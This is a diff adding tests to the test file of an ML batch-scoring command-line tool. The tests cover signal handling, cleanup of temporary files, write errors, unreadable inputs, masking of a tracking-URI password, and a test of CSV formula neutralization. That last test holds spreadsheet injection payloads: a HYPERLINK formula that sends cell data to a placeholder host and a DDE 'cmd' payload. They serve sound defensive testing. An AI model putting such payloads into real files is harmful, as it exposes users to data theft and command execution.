@@ -1,8 +1,12 @@
 """Batch scoring with a registered model: letters, parsed items, pre-review cases; nothing lost."""
 
 import json
+import os
+import resource
+import signal
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import pandas as pd
@@ -389,3 +393,229 @@ def test_a_model_that_fails_on_every_row_is_a_fault_not_rejects(make_records):
     rows = [r.to_dict() for r in make_records(40, seed=1)]
     with pytest.raises(ValueError, match="cannot handle"):
         score_rows(_stub_model(""), rows, [("items.jsonl", n) for n in range(1, len(rows) + 1)])
+
+
+# ---------------------------------------------------------------- faults: a run that is stopped
+
+
+def _children(pid):
+    """The processes whose parent is ``pid`` (from /proc)."""
+    kids = []
+    for entry in Path("/proc").iterdir():
+        try:
+            stat = (entry / "stat").read_text()
+        except (OSError, ValueError):
+            continue
+        if entry.name.isdigit() and int(stat.rsplit(")", 1)[1].split()[1]) == pid:
+            kids.append(int(entry.name))
+    return kids
+
+
+def _running(pid):
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
+    except OSError:
+        return False
+
+
+def _start_scoring_with_workers(truth, tmp_path):
+    """``imrml score`` with 2 workers on an input that keeps them busy; returns once both run and the output's
+    temporary file exists: (process, its children, output folder)."""
+    big = tmp_path / "big.jsonl"
+    big.write_text(truth.read_text() * 150)
+    out = tmp_path / "out"
+    cmd = [sys.executable, "-m", "imrml", "score", "--model", "models:/outcome_case/1", str(big)]
+    proc = subprocess.Popen(
+        [*cmd, "-o", str(out / "scored.csv"), "--jobs", "2", "--chunk-size", "500"], stderr=subprocess.PIPE, text=True
+    )
+    deadline = time.monotonic() + 120
+    while not (len(_children(proc.pid)) >= 3 and list(out.glob(".scored.csv.*.part"))):  # 2 workers, 1 tracker
+        assert proc.poll() is None and time.monotonic() < deadline, proc.stderr.read() if proc.poll() else "slow"
+        time.sleep(0.2)
+    time.sleep(2)  # the workers are scoring
+    return proc, _children(proc.pid), out
+
+
+def _gone(pids, seconds=10):
+    deadline = time.monotonic() + seconds
+    while any(_running(p) for p in pids) and time.monotonic() < deadline:
+        time.sleep(0.2)
+    return [p for p in pids if _running(p)]
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    ("sig", "status", "said"), [(signal.SIGTERM, 143, "terminated"), (signal.SIGINT, 130, "interr")]
+)
+def test_sigterm_and_ctrl_c_end_the_workers_and_remove_the_temporary_file(project, tmp_path, sig, status, said):
+    home, truth = project
+    proc, kids, out = _start_scoring_with_workers(truth, tmp_path)
+    proc.send_signal(sig)
+    assert proc.wait(timeout=60) == status and said in proc.stderr.read()
+    assert _gone(kids) == []  # the workers and the resource tracker
+    assert list(out.iterdir()) == []  # no output, no temporary file, no rejects report
+
+
+@pytest.mark.slow
+def test_kill_9_ends_the_workers_and_a_later_run_removes_the_stale_temporary_file(project, tmp_path):
+    home, truth = project
+    proc, kids, out = _start_scoring_with_workers(truth, tmp_path)
+    proc.kill()
+    proc.wait(timeout=60)
+    assert _gone(kids) == []  # workers end when their parent does, and the resource tracker with them
+    (stale,) = out.glob(".scored.csv.*.part")
+    other = out / ".other.csv.vm-1.abc.part"  # another output's: not this run's to remove
+    other.write_text("")
+    result = score("models:/outcome_case/1", [truth], out / "scored.csv", jobs=1)
+    assert sorted(p.name for p in out.iterdir()) == [other.name, "scored.csv"] and not stale.exists()
+    assert result.n_scored == len(_rows(truth))
+
+
+# ---------------------------------------------------------------- faults: where the output goes, what goes in
+
+
+def _imrml(*args, wrap=list, **kw):
+    return subprocess.run(wrap([sys.executable, "-m", "imrml", *map(str, args)]), capture_output=True, text=True, **kw)
+
+
+def test_an_output_folder_that_cannot_be_written_fails_before_any_work(project, tmp_path, unprivileged):
+    """One line naming the output (not its hidden temporary file), before the model is even loaded."""
+    home, truth = project
+    locked = tmp_path / "locked"
+    locked.mkdir()
+    locked.chmod(0o555)
+    proc = _imrml("score", "--model", "models:/no_such_model/1", truth, "-o", locked / "s.csv", wrap=unprivileged)
+    assert (proc.returncode, proc.stderr) == (
+        2,
+        f"imrml score: error: {locked / 's.csv'}: cannot write: Permission denied\n",
+    )
+    proc = _imrml(
+        "score",
+        "--model",
+        "models:/outcome_case/1",
+        truth,
+        "-o",
+        tmp_path / "s.csv",
+        "--rejects",
+        locked / "r",
+        wrap=unprivileged,
+    )
+    assert (proc.returncode, proc.stderr) == (
+        2,
+        f"imrml score: error: {locked / 'r'}: cannot write: Permission denied\n",
+    )
+    assert not (tmp_path / "s.csv").exists()
+
+
+@pytest.mark.slow
+def test_a_disk_that_fills_during_the_run_is_one_line_naming_the_output(project, tmp_path):
+    home, truth = project
+    big = tmp_path / "big.jsonl"
+    big.write_text(truth.read_text() * 40)
+    out = tmp_path / "out"
+
+    def small_disk():  # files of at most 1 MB: the model loads, the scored file does not fit
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (1_000_000, 1_000_000))
+
+    proc = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "imrml",
+            "score",
+            "--model",
+            "models:/outcome_case/1",
+            str(big),
+            "-o",
+            str(out / "s.csv"),
+        ],
+        capture_output=True,
+        text=True,
+        preexec_fn=small_disk,
+    )
+    assert proc.returncode == 2 and proc.stderr.endswith(
+        f"imrml score: error: {out / 's.csv'}: cannot write: File too large\n"
+    )
+    assert list(out.iterdir()) == []
+
+
+def test_inputs_that_cannot_be_searched_are_rejects_and_the_counts_add_up(project, tmp_path, unprivileged):
+    """An unreadable folder, a dangling link and a link loop inside an input folder used to vanish without a word,
+    and the summary still said scored + rejected = input."""
+    home, truth = project
+    letters = tmp_path / "letters"
+    (letters / "locked").mkdir(parents=True)
+    for f in FIXTURES.glob("letter_*.txt"):
+        (letters / f.name).write_text(f.read_text())
+    (letters / "locked" / "hidden.txt").write_text((FIXTURES / "letter_2016.txt").read_text())
+    (letters / "locked").chmod(0o000)
+    (letters / "moved.pdf").symlink_to(tmp_path / "elsewhere.pdf")
+    (letters / "again").symlink_to(letters)
+    want = {
+        str(letters / "locked"): "cannot read folder: Permission denied",
+        str(letters / "moved.pdf"): f"dangling link: its target {tmp_path / 'elsewhere.pdf'} does not exist",
+        str(letters / "again"): "link loop: a link to a folder that contains it",
+    }
+    out = tmp_path / "scored.csv"
+    proc = _imrml("score", "--model", "models:/outcome_case/1", letters, "-o", out, wrap=unprivileged)
+    assert proc.returncode == 1, proc.stderr
+    assert "scored 8 items, rejected 3 inputs (scored + rejected = 11 = input)" in proc.stdout
+    rejected = [json.loads(line) for line in (tmp_path / "scored.rejects.jsonl").read_text().splitlines()]
+    assert {r["source"]: r["reason"] for r in rejected} == want and len(pd.read_csv(out)) == 8
+    items = tmp_path / "items.jsonl"
+    proc = _imrml("parse", letters, "-o", items, "-q", wrap=unprivileged)
+    assert proc.returncode == 1 and "6 files: 3 letters parsed into 8 items, 3 rejected" in proc.stdout
+    rejected = [json.loads(line) for line in (tmp_path / "items.rejects.jsonl").read_text().splitlines()]
+    assert {r["source"]: r["reason"] for r in rejected} == want
+    (letters / "locked").chmod(0o755)
+
+
+# ---------------------------------------------------------------- security
+
+
+def test_a_model_from_a_file_path_needs_an_explicit_flag(project, tmp_path):
+    """A model is code: a registry or run URI is the normal way; anything else is loaded only when asked."""
+    import mlflow
+
+    home, truth = project
+    local = mlflow.artifacts.download_artifacts("models:/outcome_case/1", dst_path=str(tmp_path / "model"))
+    out = tmp_path / "s.csv"
+    proc = _imrml("score", "--model", local, truth, "-o", out)
+    assert proc.returncode == 2 and "needs --allow-model-path, and only for a model you trust" in proc.stderr
+    assert not out.exists()
+    proc = _imrml("score", "--model", local, truth, "-o", out, "--allow-model-path")
+    assert proc.returncode == 0, proc.stderr
+    run_id = load_model("models:/outcome_case/1").run_id
+    assert pd.read_csv(out).run_id.eq(run_id).all()
+
+
+def test_formula_cells_in_the_scored_csv_are_neutralized(project, tmp_path):
+    home, truth = project
+    rows = _rows(truth)[:3]
+    rows[0]["item"] = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    rows[1]["case_id"] = "+cmd|' /C calc'!A0"
+    path = tmp_path / "items.jsonl"
+    write_jsonl(rows, path)
+    score("models:/outcome_case/1", [path], tmp_path / "s.csv", jobs=1)
+    raw = (tmp_path / "s.csv").read_text()
+    assert "'=HYPERLINK(" in raw and "'+cmd|" in raw and "\n=" not in raw and ",=" not in raw
+    score("models:/outcome_case/1", [path], tmp_path / "s.jsonl", jobs=1)
+    assert _rows(tmp_path / "s.jsonl")[0]["item"] == rows[0]["item"]  # JSONL and Parquet keep the text as it is
+
+
+def test_a_password_in_the_tracking_uri_is_never_shown(project, tmp_path):
+    home, truth = project
+    env = {
+        **{k: v for k, v in os.environ.items() if k != "MLFLOW_REGISTRY_URI"},  # MLflow sets it in this process
+        "MLFLOW_TRACKING_URI": "http://alice:s3cret-pw@127.0.0.1:9",  # nothing listens on port 9 (discard)
+        "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0",
+        "MLFLOW_HTTP_REQUEST_TIMEOUT": "5",
+    }
+    for args in (
+        ("promote", "outcome_case"),
+        ("score", "--model", "models:/outcome_case/1", truth, "-o", tmp_path / "s.csv"),
+    ):
+        proc = _imrml(*args, env=env, timeout=120)
+        assert proc.returncode != 0 and "alice:***@127.0.0.1:9" in proc.stderr
+        assert "s3cret" not in proc.stdout + proc.stderr
